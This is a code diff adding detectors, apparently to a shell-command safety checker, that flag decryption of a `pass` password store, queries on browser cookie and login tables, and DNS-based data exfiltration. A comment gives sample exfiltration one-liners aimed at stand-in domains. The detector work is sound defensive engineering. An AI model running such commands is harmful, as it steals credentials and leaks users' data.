@@ -138,6 +138,80 @@ def _secret_search(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
             return
 
 
+@_on("gpg", "gpg2")
+def _pass_store(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
+    """Decrypting the `pass` store file by file (`gpg -d` in a loop over ~/.password-store): every password."""
+    encrypting = any(a in ("-e", "--encrypt", "-c", "--symmetric", "--sign", "-s", "--list-keys", "-k") for a in args)
+    if not encrypting and any(".password-store" in a for a in args):
+        yield "read_secret"
+
+
+# A browser's own tables of cookies, saved passwords and cards, whatever the database file is called.
+_BROWSER_TABLES = re.compile(r"(?i)\bmoz_(?:cookies|logins|formhistory)\b|\b(?:password|encrypted)_value\b|"
+                             r"\bcard_number_encrypted\b|\bfrom\s+logins\b")
+
+
+@_on("sqlite3", "sqlite", "litecli", "duckdb")
+def _browser_db(name: str, args: list[str], ctx: Ctx) -> Iterator[str]:
+    if any(_BROWSER_TABLES.search(a) for a in args):
+        yield "read_secret"
+
+
+# ---------------------------------------------------------------- data in DNS names
+
+# A name to look up built from substitutions or variables in front of a fixed domain:
+# `dig $(xxd -p f).x.example.net`, `host "$l".leak.example.org`, `curl https://$(base64 f).example.com`.
+_UNIT = r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{?[A-Za-z_]\w*\}?"
+_PART = re.compile(r"\$\(((?:[^()]|\([^()]*\))*)\)|`([^`]*)`|\$\{?([A-Za-z_]\w*)\}?")
+_DYN_LABEL = re.compile(r"(?:(?<=[\s\"'=@])|(?<=://))[\"']?((?:" + _UNIT + r")(?:[\w-]*\.?(?:" + _UNIT + r"))*)"
+                        r"[\"']?\.[\"']?(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}\b")
+_LOOKUP = re.compile(r"(?:^|[\s;&|(`{])(?:sudo\s+|command\s+|do\s+|then\s+)*(?:\S*/)?(?:nslookup|dig|host|drill|kdig|"
+                     r"delv|getent\s+a?hosts\w*|resolvectl\s+query|systemd-resolve|ping6?|traceroute6?|tracepath|"
+                     r"curl|wget|nc|ncat)\b[^;&|\n]*$")
+_ENCODER = re.compile(r"\b(?:xxd|base32|base64|basenc|od|hexdump|hd|uuencode|b64encode|hexlify)\b")
+_IDENTITY = re.compile(r"^\s*(?:whoami|id|logname|who|users|groups)\b")
+_FILE_READ = re.compile(r"^\s*(?:<\s*\S|(?:cat|head|tail|tac|sed|awk|cut|strings)\s+(?:\S+\s+)*[~/.\w][^|]*$)")
+
+
+def dns_exfil(text: str) -> bool:
+    """File contents, encoded data or who the user is, sent as a name to look up: whoever serves the
+    domain reads it. A name glued from several substitutions is a beacon too."""
+    for m in _DYN_LABEL.finditer(text):
+        if not _LOOKUP.search(_command_head(text, m.start())):
+            continue
+        parts = list(_PART.finditer(m.group(1)))
+        subs = [p.group(1) if p.group(1) is not None else p.group(2) for p in parts if p.group(3) is None]
+        if any(_ENCODER.search(x) or _FILE_READ.match(x.split("|")[0]) or _IDENTITY.match(x) for x in subs) or (
+                subs and len(parts) > 1):
+            return True
+        for var in (p.group(3) for p in parts if p.group(3)):
+            source = re.search(rf"(?:\b{var}=\$\(|\bfor\s+{var}\s+in\b|\bread\s+(?:-\w+\s+)*(?:\w+\s+)*{var}\b)",
+                               text)
+            if source and (_ENCODER.search(text) or any(is_secret(f, sending=True) for f in _loop_inputs(text))):
+                return True
+    return False
+
+
+def _command_head(text: str, end: int) -> str:
+    """The command a word at text[end] belongs to, from its start (separators inside $(...) skipped)."""
+    depth, k = 0, end - 1
+    while k >= 0:
+        c = text[k]
+        depth += (c == ")") - (c == "(")
+        if depth < 0:
+            depth = 0
+        elif depth == 0 and c in ";\n&|":
+            break
+        k -= 1
+    return text[k + 1:end]
+
+
+def _loop_inputs(text: str) -> list[str]:
+    """Files a loop reads its lines from: `done < FILE`, `cat FILE |`, `for x in $(cat FILE)`."""
+    return re.findall(r"\bdone\s*<\s*['\"]?([^\s'\";|&)]+)", text) + re.findall(
+        r"(?:\bcat|\$\(\s*<)\s+['\"]?([^\s'\";|&)]+)", text)
+
+
 # ---------------------------------------------------------------- tunnels and raw sockets
 
 @_on("ssh")
